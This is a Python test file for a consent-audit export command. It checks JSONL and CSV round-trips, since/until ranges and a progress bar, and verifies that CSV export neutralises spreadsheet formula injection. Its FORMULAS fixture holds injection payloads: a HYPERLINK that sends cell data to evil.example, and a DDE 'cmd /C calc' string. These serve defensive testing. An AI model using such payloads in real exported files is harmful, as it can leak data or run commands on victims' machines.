"""Exports read back to the very receipts stored, within the asked time range."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest

from consent.audit import Receipt, export
from consent.audit.commands import progress_bar
from consent.audit.export import read_csv, read_jsonl
from tests.audit.conftest import KEY, Backend, decision, fill


@pytest.fixture
def stored(backend: Backend) -> list[Receipt]:
    return fill(
        backend,
        [
            decision(f"v{index}", locale="ar" if index % 2 else "en", client=None if index else "x")
            for index in range(7)
        ],
    )


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_round_trip(backend: Backend, stored: list[Receipt], fmt: str) -> None:
    out = io.StringIO()
    assert export(backend.url, KEY, out, fmt=fmt) == 0  # type: ignore[arg-type]
    out.seek(0)
    back = list(read_jsonl(out) if fmt == "jsonl" else read_csv(out))
    assert back == stored


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize(("start", "stop"), [(2, 5), (0, 1), (6, None), (None, 3)])
def test_since_and_until_select_a_half_open_range(
    backend: Backend, stored: list[Receipt], fmt: str, start: int | None, stop: int | None
) -> None:
    since: datetime | None = None if start is None else stored[start].recorded_at
    until: datetime | None = None if stop is None else stored[stop].recorded_at
    out = io.StringIO()
    code = export(backend.url, KEY, out, fmt=fmt, since=since, until=until)  # type: ignore[arg-type]
    assert code == 0
    out.seek(0)
    back = list(read_jsonl(out) if fmt == "jsonl" else read_csv(out))
    assert back == stored[start:stop]


def test_no_progress_bar_when_stderr_is_not_a_terminal(
    backend: Backend, stored: list[Receipt]
) -> None:
    out, err = io.StringIO(), io.StringIO()
    assert export(backend.url, KEY, out, progress=True, err=err) == 0
    assert err.getvalue() == ""
    assert len(out.getvalue().splitlines()) == len(stored)


def test_progress_bar_on_a_terminal(backend: Backend, stored: list[Receipt]) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    out, err = io.StringIO(), Terminal()
    assert export(backend.url, KEY, out, progress=True, err=err) == 0
    assert f"{len(stored)}/{len(stored)} receipts" in err.getvalue()
    assert f"[{'#' * 30}] 100%" in err.getvalue()
    assert "receipts" not in out.getvalue().replace('"receipt_id"', "")


def test_the_progress_bar_fills_with_the_share_done() -> None:
    assert progress_bar(0, 200, 0.0) == f"[{'.' * 30}]   0%  0/200 receipts"
    assert progress_bar(50, 200, 2.0, width=8) == "[##......]  25%  50/200 receipts  25/s"
    assert progress_bar(3_000_000, 3_000_000, 1.0, width=4).startswith("[####] 100%  3,000,000/")


def test_unknown_format_is_a_usage_error(backend: Backend, stored: list[Receipt]) -> None:
    err = io.StringIO()
    assert export(backend.url, KEY, io.StringIO(), fmt="xml", err=err) == 2  # type: ignore[arg-type]
    assert "xml" in err.getvalue()


FORMULAS = {
    "policy_version": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "rule": "+cmd|' /C calc'!A0",
    "method": "-2+3",
    "client": "@SUM(1,1)",
    "locale": "\tde",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_guarded(backend: Backend) -> None:
    values = dict(FORMULAS)
    stored = fill(
        backend,
        [
            decision(
                "v1",
                policy_version=values["policy_version"],
                rule=values["rule"],
                method=values["method"],
                client=values["client"],
                locale=values["locale"],
            ),
            decision("v2", client="'quoted", rule="\rlate"),
        ],
    )
    out = io.StringIO()
    assert export(backend.url, KEY, out, fmt="csv") == 0
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for name, value in values.items():
        assert rows[0][name] == "'" + value
    assert rows[1]["client"] == "''quoted" and rows[1]["rule"] == "'\rlate"
    assert rows[1]["consent_id"] == "v2"  # ordinary values are left alone
    out.seek(0)
    assert list(read_csv(out)) == stored  # guarded cells read back to the signed values


def test_json_lines_are_each_receipts_own_json(backend: Backend, stored: list[Receipt]) -> None:
    """Export builds its lines from the stored rows directly; they must be the very text of
    ``Receipt.to_json`` with sorted keys, as the receipt endpoint and ``show`` write it."""
    out = io.StringIO()
    assert export(backend.url, KEY, out) == 0
    expected = [
        json.dumps(receipt.to_json(), ensure_ascii=False, sort_keys=True) for receipt in stored
    ]
    assert out.getvalue().splitlines() == expected
